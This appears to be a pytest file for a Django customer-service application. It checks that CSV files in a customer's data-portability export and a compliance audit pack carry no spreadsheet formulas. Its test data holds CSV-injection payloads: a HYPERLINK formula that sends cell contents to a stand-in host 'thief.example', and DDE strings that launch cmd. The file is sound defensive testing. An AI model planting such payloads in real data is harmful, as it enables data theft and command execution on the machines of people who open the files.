"""CSV injection: words that a spreadsheet would calculate are planted wherever somebody outside can write, and every
file that leaves the house over HTTP is opened and read cell by cell."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.test import Client

from foyer.base import clock, jobs, spreadsheet
from foyer.base.actors import Actor
from foyer.conversations.tests.factories import QueueFactory, conversation, says
from foyer.conversations.tests.visiting import visitor
from foyer.customers.tests.factories import CustomerFactory
from foyer.privacy.requests import asking
from foyer.staff.tests.cast import bring_on
from foyer.staff.tests.factories import UserFactory

pytestmark = pytest.mark.django_db
CALC = '=HYPERLINK("http://thief.example/?"&A1,"open")'
PLANTED = (CALC, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1")


def cells(table: bytes) -> list[str]:
    text = table.decode().removeprefix(spreadsheet.MARK)
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def tables(answer) -> dict[str, bytes]:
    """Every CSV in what was given out."""
    assert answer.status_code == 200, answer.content[:200]
    data = b"".join(answer.streaming_content) if answer.streaming else answer.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}


def assert_calculates_nothing(given: dict[str, bytes]) -> None:
    for name, table in given.items():
        for cell in cells(table):
            assert not spreadsheet._is_formula(cell), (name, cell)


def test_a_customers_copy_calculates_nothing(settings):
    settings.FOYER_RATE_SCALE = 0
    bring_on()
    QueueFactory()
    customer = CustomerFactory(name=CALC[:60], phone="13900139000", email="a@example.com")
    talk = conversation(customer=customer)
    for text in PLANTED:
        says(talk, text)
    began = clock.now()
    with clock.at(began):
        at_door = visitor()
        digits = at_door.post("sign-in/code", {"phone": "13900139000"}).json()["code"]
        at_door.post("sign-in", {"phone": "13900139000", "code": digits})
    with clock.at(began + timedelta(minutes=5)):
        asked = asking.ask(customer.pk, "portability", by=Actor.customer(customer))
        asking.prove(asked, asking.send_code(asked).shown, by=Actor.customer(customer))
        jobs.run_waiting()
    with clock.at(began + timedelta(minutes=10)):
        copy = f"/my-data/copies/{asked.copies.get(format='zip').pk}"
        digits = at_door.client.post(copy).context["shown"]
        given = tables(at_door.client.post(copy, {"code": digits}))

    assert_calculates_nothing(given)
    said = cells(given["conversations.messages.csv"])
    assert all(f"'{text}" in said for text in PLANTED[:4])  # what stands behind blanks is trimmed on the way in


@pytest.mark.django_db(transaction=True)
def test_the_examiners_pack_calculates_nothing(settings, tmp_path):
    settings.FOYER_AUDIT_FOLDER, settings.FOYER_CONFIRM = tmp_path / "audit", False
    cast = bring_on()
    officer = UserFactory(username="calc", display_name=CALC[:60], role="compliance", unit=cast.head_office)
    browser = Client()
    browser.force_login(officer)

    given = tables(browser.get("/desk/privacy/evidence.zip"))

    assert given
    assert_calculates_nothing(given)
